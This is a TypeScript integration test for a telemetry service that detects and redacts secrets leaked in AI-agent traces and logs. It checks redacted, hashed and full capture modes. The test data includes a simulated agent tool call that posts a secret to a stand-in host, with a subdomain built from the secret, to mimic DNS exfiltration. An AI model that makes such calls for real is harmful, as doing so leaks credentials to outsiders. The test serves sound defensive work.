/**
 * No raw secret in any output, in any capture mode, even with one invalid UTF-8 byte elsewhere in the batch (issue 22,
 * items 1 and 6). Every kind of the generated corpus, in every content channel (answer, prompt, tool arguments — with a
 * token-like subdomain in the target URL —, span events, log record bodies), sent over OTLP/HTTP to the real engine in
 * the real service; then `/metrics`, the service's log lines, the findings file, the forwarded finding records and —
 * in redacted and hashed mode — the forwarded spans and logs are searched for every raw secret.
 *
 * Capture modes govern content attributes (messages, tool arguments and results, documents, span events, log bodies);
 * in `full` mode those are forwarded as sent, by definition, and the test checks exactly that.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeLenient, T } from '../../src/otlp/proto.js';
import { generateSecretCorpus, type SecretSample } from '../../../core/test/fixtures/secrets.js';
import { metricValue, until } from '../service/helpers.js';
import { startGuarded, type CaptureMode, type Guarded } from './guarded.js';

const corpus = generateSecretCorpus(2222, 1);
const str = (v: string) => ({ stringValue: v });
const kv = (key: string, value: object) => ({ key, value });
const msgs = (role: string, content: string) => JSON.stringify([{ role, parts: [{ type: 'text', content }] }]);

/** A subdomain-safe token derived from a secret (DNS exfiltration carries data in labels). */
const label = (s: SecretSample) =>
  s.secret
    .replace(/[^A-Za-z0-9]/g, '')
    .slice(0, 40)
    .toLowerCase();

function llmSpan(i: number, s: SecretSample): object {
  const attrs = [kv('gen_ai.provider.name', str('openai')), kv('gen_ai.request.model', str('gpt-4o'))];
  const channel = i % 4;
  if (channel === 0) attrs.push(kv('gen_ai.output.messages', str(msgs('assistant', s.text))));
  if (channel === 1) attrs.push(kv('gen_ai.input.messages', str(msgs('user', `Please keep this safe: ${s.text}`))));
  if (channel === 2) {
    attrs.push(kv('gen_ai.operation.name', str('execute_tool')), kv('gen_ai.tool.name', str('http_post')));
    attrs.push(
      kv(
        'gen_ai.tool.call.arguments',
        str(
          JSON.stringify({
            url: `https://${label(s)}.collect.example/upload`,
            body: s.text,
          }),
        ),
      ),
    );
  } else attrs.push(kv('gen_ai.operation.name', str('chat')));
  const events =
    channel === 3
      ? [
          {
            name: 'gen_ai.choice',
            timeUnixNano: '1700000000400000000',
            attributes: [kv('message', str(JSON.stringify({ role: 'assistant', content: s.text })))],
          },
        ]
      : [];
  if (channel === 3) attrs.push(kv('gen_ai.system', str('openai')));
  return {
    traceId: Buffer.alloc(16, 0x66),
    spanId: Buffer.from((i + 1).toString(16).padStart(16, '0'), 'hex'),
    name: channel === 2 ? 'execute_tool http_post' : 'chat gpt-4o',
    kind: 3,
    startTimeUnixNano: '1700000000000000000',
    endTimeUnixNano: '1700000000500000000',
    attributes: attrs,
    events,
  };
}

/** The trace request, with one invalid UTF-8 byte in the http.url of an unrelated span. */
function traceRequest(): Buffer {
  const body = Buffer.from(
    T.ExportTraceServiceRequest.encode({
      resourceSpans: [
        {
          resource: { attributes: [kv('service.name', str('leaky-agent'))] },
          scopeSpans: [
            {
              spans: [
                {
                  traceId: Buffer.alloc(16, 0x67),
                  spanId: Buffer.alloc(8, 0xee),
                  name: 'GET',
                  kind: 3,
                  attributes: [kv('http.url', str('https://api.example.com/caf\u00e9'))],
                },
                ...corpus.map((s, i) => llmSpan(i, s)),
              ],
            },
          ],
        },
      ],
    }).finish(),
  );
  const at = body.indexOf(Buffer.from('\u00e9'));
  body[at] = 0xff; // one invalid byte, elsewhere in the batch
  return body;
}

function logRequest(): Buffer {
  return Buffer.from(
    T.ExportLogsServiceRequest.encode({
      resourceLogs: [
        {
          resource: { attributes: [kv('service.name', str('leaky-agent'))] },
          scopeLogs: [
            {
              scope: { name: 'opentelemetry.instrumentation.openai' },
              logRecords: corpus.map((s, i) => ({
                traceId: Buffer.alloc(16, 0x68),
                spanId: Buffer.from((i + 1).toString(16).padStart(16, '0'), 'hex'),
                timeUnixNano: '1700000000100000000',
                eventName: 'gen_ai.choice',
                body: str(s.text),
              })),
            },
          ],
        },
      ],
    }).finish(),
  );
}

describe.each(['redacted', 'hashed', 'full'] as CaptureMode[])(
  'no raw secret in any output: capture mode %s',
  (mode) => {
    let g: Guarded;
    let metrics = '';
    beforeAll(async () => {
      g = await startGuarded({ mode, toolHostAllowlist: ['api.example.com'] });
      for (const [path, body] of [
        ['/v1/traces', traceRequest()],
        ['/v1/logs', logRequest()],
      ] as const) {
        const res = await fetch(`${g.httpUrl}${path}`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-protobuf' },
          body,
        });
        expect(res.status).toBe(200);
      }
      await until(
        () => g.hop.requests.some((r) => r.path === '/v1/logs' && r.body.includes(Buffer.from('TH-SEC-'))),
        'findings',
      );
      await g.engine.forceFlush();
      metrics = await (await fetch(`${g.httpUrl}/metrics`)).text();
    });
    afterAll(async () => g?.stop());

    const findingRequests = () =>
      g.hop.requests.filter((r) => r.path === '/v1/logs' && r.body.includes(Buffer.from('tracehound.finding')));
    const dataRequests = () => g.hop.requests.filter((r) => !findingRequests().includes(r));

    it('the batch with the invalid byte was scanned: every LLM span enriched, findings for most, no stage failed', async () => {
      const traces = g.hop.requests.find((r) => r.path === '/v1/traces')!;
      const decoded = T.ExportTraceServiceRequest.toObject(decodeLenient(T.ExportTraceServiceRequest, traces.body)) as {
        resourceSpans: Array<{ scopeSpans: Array<{ spans: Array<{ attributes: Array<{ key: string }> }> }> }>;
      };
      const spans = decoded.resourceSpans[0].scopeSpans[0].spans;
      const enriched = spans.filter((sp) => sp.attributes.some((a) => a.key === 'tracehound.risk.score'));
      expect(enriched).toHaveLength(corpus.length);
      const findings = readFileSync(g.findingsFile, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { traceId: string; spanId: string });
      const withFindings = new Set(findings.filter((f) => f.traceId === '66'.repeat(16)).map((f) => f.spanId));
      // Secrets in answers, tool arguments and events are leaks (findings); one a user pastes into a prompt is not,
      // but it is masked all the same in what is forwarded (below).
      const leaks = corpus.map((_, i) => (i + 1).toString(16).padStart(16, '0')).filter((_, i) => i % 4 !== 1);
      expect(leaks.filter((id) => withFindings.has(id)).length).toBe(leaks.length);
      expect(await metricValue(g.service, 'tracehound_stage_errors_total')).toBe(0);
    });

    it('/metrics, log lines, the findings file and the forwarded finding records carry no raw secret', () => {
      const file = readFileSync(g.findingsFile, 'utf8');
      const lines = g.logLines.join('\n');
      const findings = Buffer.concat(findingRequests().map((r) => r.body));
      const m = metrics.toLowerCase();
      for (const s of corpus) {
        expect(m.includes(s.secret.toLowerCase()), `${s.kind} in /metrics`).toBe(false);
        expect(m.includes(label(s)), `${s.kind} (as a subdomain) in /metrics`).toBe(false);
        expect(lines.includes(s.secret), `${s.kind} in log lines`).toBe(false);
        expect(file.includes(s.secret), `${s.kind} in the findings file`).toBe(false);
        expect(findings.includes(Buffer.from(s.secret)), `${s.kind} in forwarded finding records`).toBe(false);
      }
    });

    it(
      mode === 'full'
        ? 'full: the forwarded spans and logs carry the content as sent'
        : `${mode}: the forwarded spans and logs carry no raw secret`,
      () => {
        const data = Buffer.concat(dataRequests().map((r) => r.body));
        expect(dataRequests().length).toBeGreaterThanOrEqual(2);
        const present = corpus.filter((s) => data.includes(Buffer.from(s.secret)));
        if (mode === 'full') expect(present.length).toBe(corpus.length);
        else expect(present.map((s) => s.kind)).toEqual([]);
      },
    );
  },
);
